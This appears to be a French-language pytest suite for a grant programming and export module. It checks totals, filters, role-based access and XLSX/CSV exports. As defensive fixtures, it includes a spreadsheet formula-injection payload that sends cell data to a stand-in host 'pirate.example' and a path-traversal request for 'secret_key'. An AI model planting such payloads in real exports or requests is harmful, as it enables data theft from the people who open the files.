"""Programmation d'un contrat et d'un exercice : service (montants, totaux, filtres, enveloppes), écran et
droits (pilote, partenaire en lecture, national ; porteur et autre contrat refusés), exports XLSX et CSV
vérifiés cellule par cellule, échappement des formules, export national par une tâche, et mémoire bornée
de l'export de 50 000 demandes. Sur SQLite et sur PostgreSQL (DAUPHIN_TEST_DATABASE_URL)."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import time
import tracemalloc
import zipfile
from datetime import date, timedelta
from decimal import Decimal

import openpyxl
import pytest
from flask import g
from sqlalchemy import event, insert, select

from dauphin.extensions import db as _db
from dauphin.models import (
    Campagne,
    Demande,
    Enveloppe,
    LigneFinancement,
    Organisation,
    Pilotage,
    Thematique,
    TypeOrganisation,
    demande_qpv,
    maintenant,
)
from dauphin.services import exports
from dauphin.services import programmation as service
from dauphin.services.documents import taille_lisible
from tests.conftest import Connexion
from tests.formulaires_html import html
from tests.requetes import Compteur
from workflows import StatutDemande as D
from workflows import StatutLigne as L

# --- Jeu de données connu -------------------------------------------------------------------------

_numeros = itertools.count(1)


def ligne(organisation, demande, propose=None, vote=None, verse="0", statut=None, valide=False):
    return LigneFinancement(
        organisation_id=organisation.id,
        statut=statut or (L.votee if vote is not None else L.recevable if propose else L.sollicitee),
        montant_demande=Decimal(demande),
        montant_propose=Decimal(propose) if propose is not None else None,
        montant_vote=Decimal(vote) if vote is not None else None,
        montant_verse=Decimal(verse),
        compte_rendu_valide=valide,
    )


def dossier(
    monde,
    intitule,
    lignes,
    *,
    statut=D.transmise,
    structure=None,
    campagne=None,
    thematique="1.5",
    qpv=True,
    transmis=True,
):
    campagne = campagne or monde.campagne
    demande = Demande(
        structure_id=(structure or monde.structure).id,
        campagne_id=campagne.id,
        exercice=campagne.exercice,
        statut=statut,
        numero=f"{campagne.exercice}-{next(_numeros):06d}" if transmis else None,
        transmise_le=maintenant() if transmis else None,
        intitule=intitule,
        thematique_code=thematique,
    )
    if qpv:
        demande.qpvs = [monde.qpv]
    demande.lignes_financement = lignes
    _db.session.add(demande)
    _db.session.commit()
    return demande


def campagne_autre_contrat(monde) -> Campagne:
    campagne = Campagne(
        contrat_id=monde.autre_contrat.id,
        exercice=monde.campagne.exercice,
        libelle="Appel à projets du Gard",
        date_ouverture=date(2020, 1, 1),
        date_cloture=date(2020, 12, 31),
    )
    _db.session.add(campagne)
    _db.session.commit()
    return campagne


INJECTION = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'


@pytest.fixture
def jeu(monde):
    """Trois demandes transmises de la campagne, un brouillon, une demande d'un autre contrat."""
    m = monde
    d1 = dossier(
        m,
        "Jardins partagés",
        [ligne(m.etat, "6000", "5000", "5000", "2000"), ligne(m.commune, "4000", "3000", "3000")],
        statut=D.versee,
    )
    d2 = dossier(
        m,
        INJECTION,
        [ligne(m.etat, "2000", "1500")],
        statut=D.en_instruction,
        structure=m.autre_structure,
        thematique="2.1",
        qpv=False,
    )
    d3 = dossier(
        m,
        "Fête de quartier",
        [ligne(m.commune, "1000"), ligne(m.etat, "500", statut=L.abandonnee)],
        thematique="3.1",
    )
    brouillon = dossier(m, "Brouillon", [], statut=D.brouillon, transmis=False)
    autre = campagne_autre_contrat(m)
    ailleurs = dossier(m, "Action du Gard", [ligne(m.caf, "700")], campagne=autre, qpv=False)
    return {"d1": d1, "d2": d2, "d3": d3, "brouillon": brouillon, "ailleurs": ailleurs, "autre": autre}


def montants(*valeurs) -> service.Montants:
    return service.Montants(*(Decimal(v) for v in valeurs))


# --- Service --------------------------------------------------------------------------------------


def test_programmation_montants_totaux_et_enveloppes(app, monde, jeu):
    p = service.programmation(monde.campagne.id)
    assert [f.nom for f in p.financeurs] == ["Préfecture du Nord (État – P147)", "Ville de Lille"]
    assert [ligne.numero for ligne in p.lignes] == [jeu["d1"].numero, jeu["d2"].numero, jeu["d3"].numero]
    assert p.total == 3
    l1, l2, l3 = p.lignes
    assert l1.montants[monde.etat.id] == montants("6000", "5000", "5000", "2000")
    assert l1.montants[monde.commune.id] == montants("4000", "3000", "3000", "0")
    assert l1.total == montants("10000", "8000", "8000", "2000")
    assert l1.qpvs == ("QN05901M",) and l1.pilier_code == "1" and l1.statut == D.versee
    assert l2.structure == "Association Voisine" and l2.qpvs == () and l2.thematique_code == "2.1"
    # La ligne « sans suite » (financeur retiré du budget) ne compte pas
    assert l3.montants[monde.etat.id] == service.Montants()
    assert l3.total == montants("1000", "0", "0", "0")

    assert p.totaux_financeurs[monde.etat.id] == montants("8000", "6500", "5000", "2000")
    assert p.totaux_financeurs[monde.commune.id] == montants("5000", "3000", "3000", "0")
    assert p.total_general == montants("13000", "9500", "8000", "2000")
    assert [(x.code, x.libelle, x.nombre, x.montants) for x in p.piliers] == [
        ("1", "Cohésion sociale", 1, montants("10000", "8000", "8000", "2000")),
        ("2", _libelle("2"), 1, montants("2000", "1500", "0", "0")),
        ("3", _libelle("3"), 1, montants("1000", "0", "0", "0")),
    ]
    assert [(e.organisation, e.total, e.engage, e.verse, e.reste, e.taux) for e in p.enveloppes] == [
        (
            "Préfecture du Nord (État – P147)",
            Decimal("50000"),
            Decimal("5000"),
            Decimal("2000"),
            Decimal("45000"),
            10,
        ),
        ("Ville de Lille", Decimal("20000"), Decimal("3000"), Decimal("0"), Decimal("17000"), 15),
    ]
    # Des données simples pour une API JSON
    donnees = json.loads(json.dumps(p.en_dict()))
    assert donnees["totaux"]["general"] == {
        "demande": "13000.00",
        "propose": "9500.00",
        "vote": "8000.00",
        "verse": "2000.00",
    }
    assert donnees["demandes"][0]["montants"][str(monde.etat.id)]["vote"] == "5000.00"


def test_sommes_lues_en_un_parcours_des_lignes(app, monde, jeu):
    """Financeurs, totaux par financeur et par pilier, enveloppes : une seule lecture des lignes de
    financement de la campagne (plus celle des lignes de la page) ; avec un filtre, une de plus pour les
    totaux filtrés. Un financeur sollicité sans enveloppe est une colonne, et n'a pas de consommation ;
    une enveloppe sans ligne est consommée à zéro."""
    dossier(monde, "Ludothèque", [ligne(monde.caf, "900", "800", "700", "0")], thematique="3.1")
    gard = Organisation(nom="CAF du Gard (enveloppe seule)", type_organisation=TypeOrganisation.caf)
    _db.session.add(gard)
    _db.session.flush()
    _db.session.add(Enveloppe(campagne_id=monde.campagne.id, organisation_id=gard.id, montant=Decimal("100")))
    _db.session.commit()
    ordres = []

    def compter(conn, cursor, statement, *args):
        ordres.append(statement)

    event.listen(_db.engine, "before_cursor_execute", compter)
    try:
        p = service.programmation(monde.campagne.id)
        lectures_sans_filtre = sum("ligne_financement" in o for o in ordres)
        ordres.clear()
        filtre = service.programmation(monde.campagne.id, service.Filtres(thematique="1"))
        lectures_avec_filtre = sum("ligne_financement" in o for o in ordres)
    finally:
        event.remove(_db.engine, "before_cursor_execute", compter)
    assert (lectures_sans_filtre, lectures_avec_filtre) == (2, 3)
    assert [f.nom for f in p.financeurs] == [
        "CAF du Gard (enveloppe seule)",
        "CAF du Nord",
        "Préfecture du Nord (État – P147)",
        "Ville de Lille",
    ]
    assert p.totaux_financeurs[monde.caf.id] == montants("900", "800", "700", "0")
    assert gard.id not in p.totaux_financeurs
    assert [(e.organisation, e.engage) for e in p.enveloppes][:1] == [(gard.nom, Decimal("0"))]
    assert "CAF du Nord" not in [e.organisation for e in p.enveloppes]
    assert filtre.totaux_financeurs == {
        monde.etat.id: montants("6000", "5000", "5000", "2000"),
        monde.commune.id: montants("4000", "3000", "3000", "0"),
    }
    assert [(x.code, x.nombre) for x in filtre.piliers] == [("1", 1)]
    assert filtre.enveloppes == p.enveloppes and filtre.financeurs == p.financeurs  # toute la campagne


def _libelle(code: str) -> str:
    return _db.session.get(Thematique, code).libelle


def test_filtres_et_pagination(app, monde, jeu):
    def numeros(**filtres):
        p = service.programmation(monde.campagne.id, service.Filtres(**filtres))
        return [ligne.numero for ligne in p.lignes], p

    d1, d2, d3 = jeu["d1"].numero, jeu["d2"].numero, jeu["d3"].numero
    assert numeros(statut=D.en_instruction)[0] == [d2]
    assert numeros(thematique="1")[0] == [d1]  # un pilier : lui et ses sous-thèmes
    assert numeros(thematique="2.1")[0] == [d2]
    assert numeros(qpv_id=monde.qpv.id)[0] == [d1, d3]
    assert numeros(financeur_id=monde.commune.id)[0] == [d1, d3]
    assert numeros(financeur_id=monde.etat.id)[0] == [d1, d2]  # pas d3 : l'État y est sans suite
    assert numeros(recherche="voisine")[0] == [d2]
    assert numeros(recherche="100%")[0] == []  # les jokers SQL tapés sont des caractères
    assert numeros(recherche=d3)[0] == [d3]
    assert numeros(recherche=d3[-4:])[0] == [d3]  # un morceau de numéro
    # Une année : les demandes numérotées cet exercice-là (`listes.condition_numero`)
    assert numeros(recherche=str(monde.campagne.exercice))[0] == [d1, d2, d3]
    assert numeros(recherche=str(monde.campagne.exercice + 1))[0] == []
    resultat, p = numeros(financeur_id=monde.commune.id)
    # Les totaux portent sur les demandes filtrées (tous leurs financeurs)
    assert p.total_general == montants("11000", "8000", "8000", "2000")
    assert p.totaux_financeurs[monde.etat.id] == montants("6000", "5000", "5000", "2000")
    assert [x.code for x in p.piliers] == ["1", "3"]
    page2 = service.programmation(monde.campagne.id, page=2, par_page=2)
    assert [x.numero for x in page2.lignes] == [d3] and page2.total == 3 and page2.pages == 2


# --- Écran et droits ------------------------------------------------------------------------------


def oublier_utilisateur():
    """Le contexte d'application des tests est partagé par les requêtes : Flask-Login y garde
    l'utilisateur de la requête précédente (g._login_user). On l'oublie avant de changer de client."""
    g.pop("_login_user", None)


def client_de(app, utilisateur):
    oublier_utilisateur()
    c = app.test_client()
    Connexion(c).en_tant_que(utilisateur)
    return c


def _montants(fragment: str) -> list[str]:
    """Les montants des cellules numériques d'un fragment de page, espaces ordinaires."""
    cellules = re.findall(r'<td class="dauphin-numerique">([^<]*)</td>', fragment)
    return [c.replace("\u202f", " ").replace("\xa0", " ") for c in cellules]


def test_ecran_du_pilote(app, client, connexion, monde, jeu):
    connexion.en_tant_que(monde.pilote)
    accueil = html(client.get("/pilotage/"))
    url = f"/pilotage/programmation/{monde.campagne.id}"
    assert url in accueil
    reponse = client.get(url)
    assert reponse.status_code == 200
    page = html(reponse)
    assert re.findall(r'<tr data-demande="([^"]+)"', page) == [jeu[k].numero for k in ("d1", "d2", "d3")]
    assert "Brouillon" not in re.findall(r"<th scope=\"row\"><a[^>]*>([^<]*)</a>", page)
    assert "Action du Gard" not in page
    assert "<caption>Programmation" in page
    # Une ligne par demande et ses totaux, sans colonne par financeur ; le détail de chaque financeur dans
    # des sous-lignes que la page montre à la demande ; le total des demandes en pied de tableau.
    d1 = jeu["d1"]
    rangee = re.search(rf'<tr data-demande="{d1.numero}">(.*?)</tr>', page, re.S).group(1)
    assert _montants(rangee) == ["10 000,00 €", "8 000,00 €", "8 000,00 €", "2 000,00 €"]
    sous_lignes = re.findall(
        rf'<tr id="financeur-{d1.id}-(\d+)" class="dauphin-sous-ligne"[^>]*hidden>\s*'
        r'<th scope="row" colspan="4">([^<]+)</th>(.*?)</tr>',
        page,
        re.S,
    )
    assert [(int(cle), nom, _montants(cellules)) for cle, nom, cellules in sous_lignes] == [
        (monde.etat.id, monde.etat.nom, ["6 000,00 €", "5 000,00 €", "5 000,00 €", "2 000,00 €"]),
        (monde.commune.id, monde.commune.nom, ["4 000,00 €", "3 000,00 €", "3 000,00 €", "0,00 €"]),
    ]
    bouton = re.search(r'<button [^>]*aria-controls="([^"]+)"[^>]*>Détail : 2 financeurs', rangee).group(1)
    assert bouton.split() == [f"financeur-{d1.id}-{cle}" for cle, _, _ in sous_lignes]
    pied = page.split('id="programmation"')[1].split("<tfoot>")[1].split("</tfoot>")[0]
    assert "Total des 3 demandes" in pied
    assert _montants(pied) == ["13 000,00 €", "9 500,00 €", "8 000,00 €", "2 000,00 €"]
    # Le titre de l'action, où la formule est du simple texte échappé à l'affichage
    assert "=HYPERLINK(&#34;http" in page or "=HYPERLINK(&quot;http" in page
    totaux = page.split('id="totaux-financeurs"')[1]
    assert "8\u202f000,00\xa0€" in totaux or "8 000,00 €" in totaux.replace("\u202f", " ").replace(
        "\xa0", " "
    )
    filtre = html(client.get(url, query_string={"financeur": monde.commune.id, "statut": "versee"}))
    assert re.findall(r'<tr data-demande="([^"]+)"', filtre) == [jeu["d1"].numero]
    assert f"export.xlsx?statut=versee&amp;financeur={monde.commune.id}" in filtre
    # Une valeur de filtre inconnue est ignorée, une page trop loin ne plante pas
    assert client.get(url, query_string={"statut": "nimporte", "financeur": 99999}).status_code == 200
    assert client.get(url, query_string={"page": 50}).status_code == 200


def test_droits(app, client, connexion, monde, jeu):
    url = f"/pilotage/programmation/{monde.campagne.id}"
    urls = [url, url + "/export.xlsx", url + "/export.csv"]
    autre = jeu["autre"]

    def statuts(utilisateur, adresses):
        c = client_de(app, utilisateur)
        resultat = []
        for adresse in adresses:
            oublier_utilisateur()
            with c.get(adresse) as reponse:  # une réponse en flux est lue jusqu'au bout puis fermée
                reponse.get_data()
                resultat.append(reponse.status_code)
        return resultat

    assert statuts(monde.pilote, urls) == [200, 200, 200]
    # Pilote du contrat A : la programmation du contrat B lui est refusée
    autres = [f"/pilotage/programmation/{autre.id}", f"/pilotage/programmation/{autre.id}/export.csv"]
    assert statuts(monde.pilote, autres) == [403, 403]
    # Partenaire signataire : en lecture ; partenaire d'un autre contrat : refusé
    c = client_de(app, monde.partenaire_caf)
    page = html(c.get(url))
    assert "Consultation" in page and "Programmation" in html(c.get("/pilotage/programmation/"))
    assert statuts(monde.partenaire_caf, urls) == [200, 200, 200]
    assert statuts(monde.partenaire_autre_contrat, urls) == [403, 403, 403]
    assert statuts(monde.partenaire_autre_contrat, autres) == [200, 200]
    # Porteur, compte sans rôle : refusés ; administration nationale : tout
    assert statuts(monde.signataire, urls + ["/pilotage/programmation/"]) == [403] * 4
    assert statuts(monde.sans_role, urls) == [403] * 3
    assert statuts(monde.admin_national, urls + autres) == [200] * 5
    assert statuts(monde.pilote, ["/pilotage/programmation/999999"]) == [404]
    # Sans connexion : vers la page de connexion
    oublier_utilisateur()
    assert app.test_client().get(url).status_code == 302


def test_liste_des_programmations(app, client, connexion, monde, jeu):
    connexion.en_tant_que(monde.pilote)
    page = html(client.get("/pilotage/programmation/"))
    assert re.findall(r'data-campagne="(\d+)"', page) == [str(monde.campagne.id)]
    c = client_de(app, monde.admin_national)
    page = html(c.get("/pilotage/programmation/", query_string={"departement": "30"}))
    assert re.findall(r'data-campagne="(\d+)"', page) == [str(jeu["autre"].id)]


def test_nombre_de_requetes_borne(app, client, connexion, db, monde):
    connexion.en_tant_que(monde.pilote)
    compteur = Compteur(db.engine)
    url = f"/pilotage/programmation/{monde.campagne.id}"
    urls = [url, url + f"?financeur={monde.etat.id}&thematique=1&q=action", url + "?page=2"]

    def remplir(n):
        for i in range(n):
            dossier(
                monde,
                f"Action {i}",
                [ligne(monde.etat, "100", "80", "50"), ligne(monde.commune, "60")],
                statut=D.attribuee if i % 2 else D.en_instruction,
                structure=monde.structure if i % 2 else monde.autre_structure,
                thematique=["1.1", "2.1", "3.2"][i % 3],
            )

    remplir(3)
    avec_3 = [compteur.mesurer(client, u) for u in urls]
    remplir(57)
    avec_60 = [compteur.mesurer(client, u) for u in urls]
    assert avec_60 == avec_3
    assert max(avec_3) <= 20


# --- Exports --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("texte", "attendu"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 12", "'+33 6 12"),
        ("-2", "'-2"),
        ("@SOMME(A1)", "'@SOMME(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ateliers = lien", "Ateliers = lien"),
        ("", ""),
        (None, ""),
    ],
)
def test_echappement_des_formules(texte, attendu):
    assert exports.echapper(texte) == attendu


def test_export_xlsx_cellule_par_cellule(app, client, connexion, monde, jeu, tmp_path):
    connexion.en_tant_que(monde.pilote)
    reponse = client.get(f"/pilotage/programmation/{monde.campagne.id}/export.xlsx")
    assert reponse.status_code == 200
    assert reponse.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert "programmation-CV-TEST-1-" in reponse.headers["Content-Disposition"]
    chemin = tmp_path / "p.xlsx"
    chemin.write_bytes(reponse.data)
    classeur = openpyxl.load_workbook(chemin)
    assert classeur.sheetnames == ["Programmation", "Synthèse"]
    feuille = classeur["Programmation"]
    rangees = [[c.value for c in r] for r in feuille.iter_rows()]
    assert rangees[0][0].startswith("Programmation ")
    entete = rangees[1]
    assert entete[:7] == [
        "Numéro",
        "Structure",
        "SIRET",
        "Intitulé de l’action",
        "Thématique",
        "Pilier",
        "QPV",
    ]
    assert entete[7:12] == [
        "Statut",
        "Préfecture du Nord (État – P147) — demandé",
        "Préfecture du Nord (État – P147) — proposé",
        "Préfecture du Nord (État – P147) — voté",
        "Préfecture du Nord (État – P147) — versé",
    ]
    assert entete[12:] == [
        "Ville de Lille — demandé",
        "Ville de Lille — proposé",
        "Ville de Lille — voté",
        "Ville de Lille — versé",
        "Total demandé",
        "Total proposé",
        "Total voté",
        "Total versé",
    ]
    d1, d2, d3 = rangees[2:5]
    assert d1[:8] == [
        jeu["d1"].numero,
        "Association des Jardins",
        monde.structure.siret,
        "Jardins partagés",
        "1.5 — " + _libelle("1.5"),
        "1",
        "QN05901M",
        "Versée",
    ]
    assert d1[8:] == [6000, 5000, 5000, 2000, 4000, 3000, 3000, 0, 10000, 8000, 8000, 2000]
    # La formule du porteur est une cellule de texte, écrite telle quelle : aucune apostrophe visible
    assert d2[3] == INJECTION
    cellule = feuille.cell(row=4, column=4)
    assert cellule.data_type == "s"
    with zipfile.ZipFile(chemin) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()  # textes en ligne (constant_memory)
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in xml and "quotePrefix" not in styles  # ni formule, ni apostrophe de style
    assert 't="inlineStr"><is><t>=HYPERLINK(' in xml.replace("&quot;", '"') and "'=HYPERLINK" not in xml
    assert d2[6] is None or d2[6] == ""
    assert d2[8:12] == [2000, 1500, 0, 0]
    assert d3[8:] == [0, 0, 0, 0, 1000, 0, 0, 0, 1000, 0, 0, 0]
    total = rangees[5]
    assert total[0] == "Total (3 demandes)"
    assert total[8:] == [8000, 6500, 5000, 2000, 5000, 3000, 3000, 0, 13000, 9500, 8000, 2000]
    montant = feuille.cell(row=3, column=9)
    assert isinstance(montant.value, (int, float)) and "€" in montant.number_format
    assert len(rangees) == 6

    synthese = [[c.value for c in r] for r in classeur["Synthèse"].iter_rows()]
    assert ["Préfecture du Nord (État – P147)", 8000, 6500, 5000, 2000] in [r[:5] for r in synthese]
    assert ["Ville de Lille", 20000, 3000, 0, 17000] in [r[:5] for r in synthese]
    assert ["1 Cohésion sociale", 1, 10000, 8000, 8000, 2000] in [r[:6] for r in synthese]


def test_export_csv_pour_excel_francais(app, client, connexion, monde, jeu):
    connexion.en_tant_que(monde.partenaire_caf)
    reponse = client.get(f"/pilotage/programmation/{monde.campagne.id}/export.csv?thematique=1")
    assert reponse.status_code == 200 and reponse.mimetype == "text/csv"
    assert reponse.data.startswith(b"\xef\xbb\xbf")  # BOM UTF-8
    texte = reponse.data.decode("utf-8-sig")
    rangees = list(csv.reader(io.StringIO(texte), delimiter=";"))
    assert rangees[0][:3] == ["Numéro", "Structure", "SIRET"]
    assert [r[0] for r in rangees[1:]] == [jeu["d1"].numero]  # le filtre s'applique à l'export
    assert rangees[1][8:12] == ["6000,00", "5000,00", "5000,00", "2000,00"]
    assert rangees[1][-4:] == ["10000,00", "8000,00", "8000,00", "2000,00"]
    tout = client.get(f"/pilotage/programmation/{monde.campagne.id}/export.csv").data.decode("utf-8-sig")
    rangees = list(csv.reader(io.StringIO(tout), delimiter=";"))
    assert len(rangees) == 4
    assert rangees[2][3] == "'" + INJECTION  # échappée, et ses « ; » restent dans la cellule


# --- Export national ------------------------------------------------------------------------------


def test_export_national_refuse_une_annee_demesuree_sans_erreur(client, connexion, monde):
    """Une saisie de 5 000 chiffres (trouvée par les saisies hostiles) : 422 et son message, jamais 500."""
    connexion.en_tant_que(monde.admin_national)
    reponse = client.post("/administration/exports", data={"exercice": "9" * 5000, "format": "csv"})
    assert reponse.status_code == 422


def test_export_national_par_une_tache(app, client, connexion, monde, jeu):
    connexion.en_tant_que(monde.admin_national)
    page = client.get("/administration/exports")
    assert page.status_code == 200
    jeton = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html(page))
    donnees = {"exercice": monde.campagne.exercice, "format": "csv"}
    if jeton:
        donnees["csrf_token"] = jeton.group(1)
    assert client.post("/administration/exports", data=donnees).status_code == 302
    page = html(client.get("/administration/exports"))
    nom = re.search(r'data-export="([^"]+)"', page).group(1)
    assert "Prêt" in page
    fichier = client.get(f"/administration/exports/{nom}")
    assert fichier.status_code == 200
    # La taille du lien, à la française : « CSV – 1,2 ko », jamais « 0.0 Mo »
    taille = re.search(r"CSV – ([^<]+)</span>", page).group(1)
    assert taille == taille_lisible(len(fichier.data)) and "." not in taille and "0,0" not in taille
    rangees = list(csv.reader(io.StringIO(fichier.data.decode("utf-8-sig")), delimiter=";"))
    assert rangees[0][:4] == ["Numéro", "Contrat de ville", "Code du contrat", "Département"]
    assert "État — voté" in rangees[0] and "Caisse d’allocations familiales — demandé" in rangees[0]
    numeros = [r[0] for r in rangees[1:]]
    # Tous les contrats, par contrat puis numéro ; jamais un brouillon
    assert numeros == [jeu["d1"].numero, jeu["d2"].numero, jeu["d3"].numero, jeu["ailleurs"].numero]
    assert rangees[4][2:4] == ["CV-TEST-2", "30"]
    etat_vote = rangees[0].index("État — voté")
    assert rangees[1][etat_vote] == "5000,00"
    # Format invalide : erreur sur la page, rien n'est lancé
    donnees["format"] = "pdf"
    erreur = client.post("/administration/exports", data=donnees)
    assert erreur.status_code == 422 and "Erreur : " in html(erreur)
    # Réservé à l'administration nationale ; nom inventé : 404
    assert (
        client.get("/administration/exports/programmation-2026-20260101T000000-00000000.csv").status_code
        == 404
    )
    assert client.get("/administration/exports/..%2Fsecret_key").status_code == 404
    c = client_de(app, monde.pilote)
    assert c.get("/administration/exports").status_code == 403
    assert c.get(f"/administration/exports/{nom}").status_code == 403


NB_VOLUME = 50_000


def charger_volume_programmation(monde, nombre: int) -> None:
    """`nombre` demandes transmises et leurs deux lignes, insérées en masse (executemany). Les colonnes que
    les lignes recopient de leur demande sont données : à défaut, chaque ligne les relirait par une requête
    (400 000 requêtes pour 50 000 demandes, les trois quarts de la durée du test)."""
    autre = campagne_autre_contrat(monde)
    _db.session.add(Enveloppe(campagne_id=autre.id, organisation_id=monde.caf.id, montant=Decimal("1000000")))
    _db.session.commit()
    instant = maintenant()
    exercice = monde.campagne.exercice
    premier = (_db.session.scalar(select(Demande.id).order_by(Demande.id.desc()).limit(1)) or 0) + 1
    for debut in range(0, nombre, 5_000):
        ids = range(premier + debut, premier + min(debut + 5_000, nombre))
        recopies = {  # ce que chaque ligne recopie de sa demande
            i: {
                "numero": f"{exercice}-{i:06d}",
                "structure_id": monde.structure.id if i % 2 else monde.autre_structure.id,
                "exercice": exercice,
                "transmise_le": instant - timedelta(seconds=i),
            }
            for i in ids
        }
        _db.session.execute(
            insert(Demande.__table__),
            [
                {
                    "id": i,
                    **recopies[i],
                    "campagne_id": monde.campagne.id if i % 3 else autre.id,
                    "statut": D.attribuee.value,
                    "version": 1,
                    "intitule": f"Action de quartier n° {i} — ateliers, sorties et accompagnement",
                    "thematique_code": ["1.1", "1.5", "2.1", "3.1", "4"][i % 5],
                    "renouvellement": False,
                    "duree_annees": 1,
                    "cree_le": instant,
                    "modifie_le": instant,
                }
                for i in ids
            ],
        )
        _db.session.execute(
            insert(LigneFinancement.__table__),
            [
                {
                    "demande_id": i,
                    **recopies[i],
                    "organisation_id": organisation.id,
                    "statut": L.votee.value,
                    "version": 1,
                    "montant_demande": Decimal("5000.50"),
                    "montant_propose": Decimal("4000"),
                    "montant_vote": Decimal("3000"),
                    "montant_verse": Decimal("1000"),
                    "convention_requise": False,
                    "compte_rendu_valide": False,
                }
                for i in ids
                for organisation in (monde.etat, monde.commune)
            ],
        )
        _db.session.execute(insert(demande_qpv), [{"demande_id": i, "qpv_id": monde.qpv.id} for i in ids])
    _db.session.commit()


def _ecrire(format_, chemin, exercice, financeurs) -> int:
    with open(chemin, "wb") as fichier:
        lignes = service.iterer_lignes_nationales(exercice, financeurs)
        if format_ == "xlsx":
            return exports.ecrire_xlsx(fichier, financeurs, lignes, titre="National", national=True)
        exports.ecrire_csv(fichier, financeurs, lignes, national=True)
        return -1


def _rss_pic_remis_a_zero() -> int | None:
    """Remet à zéro le pic de mémoire résidente du processus (Linux : /proc/self/clear_refs) et rend la
    mémoire résidente actuelle en octets ; None si le système ne le permet pas."""
    try:
        with open("/proc/self/clear_refs", "w") as f:
            f.write("5")
        return _statut_memoire("VmRSS")
    except OSError:
        return None


def _statut_memoire(cle: str) -> int:
    with open("/proc/self/status") as f:
        for ligne_statut in f:
            if ligne_statut.startswith(cle + ":"):
                return int(ligne_statut.split()[1]) * 1024
    raise LookupError(cle)


@pytest.mark.volume
def test_export_national_de_50_000_demandes_en_memoire_bornee(app, monde, tmp_path, capsys):
    """L'export lit la base par lots (curseur côté serveur) et écrit au fil de l'eau (XlsxWriter en
    `constant_memory`, CSV par morceaux) : la mémoire ne dépend pas du nombre de demandes.

    CSV : pic de tracemalloc sur les 50 000 demandes. XLSX : tracemalloc multiplie ici le temps par sept
    (XlsxWriter alloue beaucoup de petits objets) ; on mesure donc le pic de mémoire résidente du processus
    pendant l'export des 50 000 demandes (VmHWM remis à zéro) ; `test_xlsx_en_memoire_constante` vérifie
    avec tracemalloc que le pic du XLSX ne grandit pas avec le nombre de lignes. Borne : 150 Mo."""
    charger_volume_programmation(monde, NB_VOLUME)
    exercice = monde.campagne.exercice
    _db.session.expunge_all()  # rien de chargé avant la mesure
    financeurs = service.financeurs_nationaux(exercice)
    mesures = {}

    tracemalloc.start()
    debut = time.perf_counter()
    _ecrire("csv", tmp_path / "national.csv", exercice, financeurs)
    duree = time.perf_counter() - debut
    pic = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    mesures["CSV, pic tracemalloc"] = (pic, duree)
    assert pic < 150 * 2**20

    avant = _rss_pic_remis_a_zero()
    debut = time.perf_counter()
    nombre = _ecrire("xlsx", tmp_path / "national.xlsx", exercice, financeurs)
    duree = time.perf_counter() - debut
    if avant is not None:
        croissance = _statut_memoire("VmHWM") - avant
        mesures["XLSX, pic de mémoire résidente au-delà de l'état initial"] = (croissance, duree)
        assert croissance < 150 * 2**20
    assert nombre == NB_VOLUME
    with capsys.disabled():
        for libelle, (octets, secondes) in mesures.items():
            print(
                f"\nExport national de {NB_VOLUME} demandes — {libelle} : "
                f"{octets / 2**20:.1f} Mo, {secondes:.1f} s"
            )

    with open(tmp_path / "national.csv", encoding="utf-8-sig") as fichier:
        lecteur = csv.reader(fichier, delimiter=";")
        entete = next(lecteur)
        premiere = next(lecteur)
        assert sum(1 for _ in lecteur) == NB_VOLUME - 1
    assert premiere[entete.index("Total demandé")] == "10001,00"
    assert premiere[entete.index("État — voté")] == "3000,00"
    # Le classeur est lisible et complet (lecture en continu d'openpyxl)
    classeur = openpyxl.load_workbook(tmp_path / "national.xlsx", read_only=True)
    assert classeur["Programmation"].max_row == NB_VOLUME + 3  # titre, en-tête, demandes, total
    classeur.close()


@pytest.mark.volume  # 5 000 demandes
def test_xlsx_en_memoire_constante(app, monde, tmp_path):
    """Le pic tracemalloc de l'export XLSX ne grandit pas avec le nombre de demandes (500 puis 5 000)."""
    charger_volume_programmation(monde, 5_000)
    exercice = monde.campagne.exercice
    _db.session.expunge_all()
    financeurs = service.financeurs_nationaux(exercice)
    pics = []
    for limite in (500, 5_000):
        tracemalloc.start()
        with open(tmp_path / f"{limite}.xlsx", "wb") as fichier:
            lignes = itertools.islice(service.iterer_lignes_nationales(exercice, financeurs), limite)
            assert exports.ecrire_xlsx(fichier, financeurs, lignes, titre="N", national=True) == limite
        pics.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert pics[1] < 20 * 2**20
    assert pics[1] < pics[0] * 1.5 + 2**20  # dix fois plus de lignes, pas dix fois plus de mémoire


def test_pilote_de_deux_contrats(app, client, connexion, db, monde, jeu):
    """Un pilote de deux contrats voit les deux programmations (et pas plus)."""
    db.session.add(
        Pilotage(
            utilisateur_id=monde.pilote.id, contrat_id=monde.autre_contrat.id, organisation_id=monde.etat.id
        )
    )
    db.session.commit()
    connexion.en_tant_que(monde.pilote)
    page = html(client.get("/pilotage/programmation/"))
    assert sorted(re.findall(r'data-campagne="(\d+)"', page)) == sorted(
        [str(monde.campagne.id), str(jeu["autre"].id)]
    )


def test_financeurs_dans_l_ordre_alphabetique_francais(app, monde, jeu):
    """« État… » se range avec les E et une minuscule avec sa majuscule, pas après le Z (ordre des
    colonnes, des exports et des enveloppes)."""
    for nom in ("État – Préfecture de l’Aisne", "eurométropole de test"):
        organisation = Organisation(nom=nom, type_organisation=TypeOrganisation.caf)
        _db.session.add(organisation)
        _db.session.flush()
        _db.session.add(
            Enveloppe(campagne_id=monde.campagne.id, organisation_id=organisation.id, montant=Decimal("1"))
        )
    _db.session.commit()
    p = service.programmation(monde.campagne.id)
    assert [f.nom for f in p.financeurs] == [
        "État – Préfecture de l’Aisne",
        "eurométropole de test",
        "Préfecture du Nord (État – P147)",
        "Ville de Lille",
    ]
    assert [e.organisation for e in p.enveloppes][:2] == [
        "État – Préfecture de l’Aisne",
        "eurométropole de test",
    ]
